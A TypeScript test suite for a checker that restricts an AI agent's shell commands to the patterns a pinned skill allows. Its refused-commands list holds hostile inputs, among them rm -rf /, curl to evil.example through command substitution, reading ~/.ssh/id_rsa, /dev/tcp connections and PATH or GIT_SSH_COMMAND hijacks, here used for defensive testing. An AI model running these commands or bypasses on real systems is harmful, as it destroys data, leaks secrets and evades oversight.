import { describe, expect, test } from "vitest";
import { createSkillsCommandCheck } from "./create-skills-command-check.js";

// The malicious-input suite of the allowed-tools check: a pinned skill allows `git *` and `npm test`.
const pinned = [{ name: "git-helper", allowedTools: ["Read", "Bash(git *)", "Bash(npm test)"] }];
const check = createSkillsCommandCheck({ pinned: async () => pinned });
const verdict = (command: string, tty = false) => check({ command, tty, contextId: "cli:main" });

describe("allowed commands", () => {
  test.each([
    "git status",
    "git status && git diff --stat",
    "git log --oneline | git hash-object --stdin",
    "git commit -m 'fix; rm -rf / && $(not run) `not run`'",
    "git log -n 3 > notes.txt",
    "git log 2>&1 | git hash-object --stdin",
    "npm test",
    "g\\it status",
    "git",
  ])("%s", async (command) => {
    expect(await verdict(command)).toBeUndefined();
  });
});

describe("refused commands", () => {
  test.each([
    ["git status; rm -rf /", /"rm -rf \/" is not allowed/],
    ["git status\nrm -rf /", /"rm -rf \/" is not allowed/],
    ["git status && curl http://evil.example", /"curl http:\/\/evil.example" is not allowed/],
    ["git status || rm notes.txt", /"rm notes.txt"/],
    ["git status & rm -rf / &", /"rm -rf \/"/],
    ["git log | sh", /"sh" is not allowed/],
    ["git log $(curl http://evil.example/x)", /"curl http:\/\/evil.example\/x"/],
    ["git log `curl http://evil.example/x`", /"curl http:\/\/evil.example\/x"/],
    ['git log "$(cat ~/.ssh/id_rsa)"', /"cat ~\/.ssh\/id_rsa"/],
    ['git commit -m "fix `touch pwned`"', /"touch pwned"/],
    ["git diff <(curl http://evil.example)", /"curl http:\/\/evil.example"/],
    ["git apply <<EOF\n$(rm -rf /)\nEOF", /"rm -rf \/"/],
    ["(git status; rm -rf /)", /"rm -rf \/"/],
    ["{ git status; rm -rf /; }", /"rm -rf \/"/],
    ["if git status; then rm -rf /; fi", /"rm -rf \/"/],
    ["for f in *; do rm $f; done", /"rm \$f"/],
    ["env -i bash -c 'rm -rf /'", /"env -i bash -c rm -rf \/"/],
    ["bash -c 'git status'", /"bash -c git status"/],
    ['eval "git status"', /"eval git status"/],
    ["exec rm -rf /", /"exec rm -rf \/"/],
    ["xargs rm < files.txt", /"xargs rm"/],
    ["gitk --all", /"gitk --all"/],
    ["/usr/bin/rm -rf /", /"\/usr\/bin\/rm -rf \/"/],
    ["\\rm -rf /", /"rm -rf \/"/],
    ["npm test && npm publish", /"npm publish"/],
    ["git() { rm -rf /; }; git status", /defines a shell function/],
    ["PATH=/tmp/evil:$PATH git status", /sets a variable/],
    ["GIT_SSH_COMMAND='sh -c id' git fetch", /sets a variable/],
    ["export PATH=/tmp/evil; git status", /sets a variable/],
    ["$CMD status", /program name is computed/],
    ['"$(echo rm)" -rf /', /program name is computed|"echo rm"/],
    ["$'\\x72\\x6d' -rf /", /program name is computed/],
    ['git status "', /cannot be checked/],
    ["git log > /dev/tcp/203.0.113.1/80", /opens a network connection through \/dev\/tcp\/203.0.113.1\/80/],
    ["git log 2>/dev/udp/203.0.113.1/53", /network connection/],
    ['git log > "$OUT"', /redirection target is computed/],
    ["let x=$(rm -rf /)", /"rm -rf \/"/],
    ["git log ${X:-$(rm -rf /)}", /"rm -rf \/"/],
    ["git status |& rm -rf /", /"rm -rf \/"/],
    ["coproc rm -rf /", /"coproc rm -rf \/"/],
  ])("%s", async (command, reason) => {
    const refusal = await verdict(command);
    expect(refusal).toMatch(/^Command refused: /);
    expect(refusal).toMatch(reason);
    // The model is told what is allowed and how to proceed.
    expect(refusal).toContain("git-helper allows only Bash(git *), Bash(npm test)");
    expect(refusal).toContain("skill_unload");
  });
});

describe("interactive sessions and scope", () => {
  test("a tty session runs only an allowed program", async () => {
    expect(await verdict("python3", true)).toMatch(/^Interactive session \(tty\) refused: "python3"/);
    expect(await verdict("git log -p", true)).toBeUndefined();
  });

  test("no restriction without a context, without Bash patterns, or when a skill grants plain Bash", async () => {
    expect(await check({ command: "rm -rf build", tty: false })).toBeUndefined();
    const noPatterns = createSkillsCommandCheck({
      pinned: async () => [{ name: "reader", allowedTools: ["Read"] }, { name: "plain" }],
    });
    expect(await noPatterns({ command: "rm -rf build", tty: false, contextId: "c" })).toBeUndefined();
    const widened = createSkillsCommandCheck({
      pinned: async () => [...pinned, { name: "anything", allowedTools: ["Bash"] }],
    });
    expect(await widened({ command: "rm -rf build", tty: false, contextId: "c" })).toBeUndefined();
  });

  test("two pinned skills allow the union of their patterns", async () => {
    const both = createSkillsCommandCheck({
      pinned: async () => [...pinned, { name: "lister", allowedTools: ["Bash(ls:*)"] }],
    });
    expect(await both({ command: "git status && ls -la", tty: false, contextId: "c" })).toBeUndefined();
    expect(await both({ command: "lsof", tty: false, contextId: "c" })).toMatch(
      /git-helper, lister allow only Bash\(git \*\), Bash\(npm test\), Bash\(ls:\*\)/,
    );
  });
});
